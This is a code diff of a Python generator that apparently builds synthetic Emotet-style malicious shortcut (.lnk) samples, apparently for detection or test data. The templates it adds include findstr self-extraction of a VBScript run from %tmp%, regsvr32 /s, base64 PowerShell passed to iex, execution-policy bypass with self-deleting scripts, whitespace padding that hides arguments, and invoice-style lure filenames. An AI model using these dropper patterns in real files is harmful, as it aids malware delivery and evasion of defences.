@@ -20,7 +20,12 @@ POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 def link_name(draw: Random, before: str = "") -> str:
     """As in the mails; *before* is an extension that stands in front of the true one."""
     stem = draw.choice(
-        (f"INF_{draw.randint(10**7, 10**8)}", f"form {draw.randint(10, 99)}", f"Electronic form 04.{draw.randint(10, 30)}.2022, USA", "請求書")
+        (
+            f"INF_{draw.randint(10**7, 10**8)}",
+            f"form {draw.randint(10, 99)}",
+            f"Electronic form 04.{draw.randint(10, 30)}.2022, USA",
+            "請求書",
+        )
     )
     return f"{stem}{before}.lnk"
 
@@ -29,7 +34,8 @@ def _itself(draw: Random, name: str) -> Sample:
     """It takes the lines that begin with its word out of itself into a script."""
     word = letters(draw, 15, 15, string.ascii_letters)
     vbs, where = letters(draw, 6, 10, string.ascii_letters), draw.choice(("%tmp%", "%TEMP%"))
-    arguments = f'/v:on /c findstr "{word}.*" "{name}" > "{where}\\{vbs}.vbs" & "{where}\\{vbs}.vbs"'
+    own = name if " " not in name and draw.random() < 0.5 else f'"{name}"'
+    arguments = f'/v:on /c findstr "{word}.*" {own} > "{where}\\{vbs}.vbs" & "{where}\\{vbs}.vbs"'
     if draw.random() < 0.3:
         arguments = " " * draw.randint(200, 600) + arguments
     script = droppers.vbscript(draw, droppers.sites(draw), draw.choice(droppers.VBSCRIPT), "regsvr32.exe /s ")
@@ -53,7 +59,12 @@ def in_base64(draw: Random) -> Sample:
     text = base64.b64encode(commands.of_april_2022(draw).encode()).decode()
     inner = f"iex ([string][System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{text}')))"
     name = link_name(draw)
-    padded = f"Out-String -InputObject \"{name}{' ' * draw.randint(100, 300)}\" | out-null; " if draw.random() < 0.5 else ""
+    padded = f'Out-String -InputObject "{name}{" " * draw.randint(100, 300)}" | out-null; ' if draw.random() < 0.5 else ""
+    if draw.random() < 0.3:
+        script = f"$env:TEMP/{letters(draw, 8, 10)}.ps1"
+        saved = f"[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{text}')) > \"{script}\""
+        rest = f'powershell -executionpolicy bypass -file "{script}"; Remove-Item -Force "{script}"'
+        return Sample(name, lnk(POWERSHELL, f"-c \"&{{'{letters(draw, 9, 12)}';{padded}{saved}; {rest}}}\""), EMOTET, _KINDS)
     if draw.random() < 0.5:
         return Sample(name, lnk(POWERSHELL, f'-c "&{{{padded}{inner}}}"'), EMOTET, _KINDS)
     return Sample(name, lnk(CMD, f'/c powershell -c "&{{{padded}{inner}}}"', show=7), EMOTET, _KINDS)
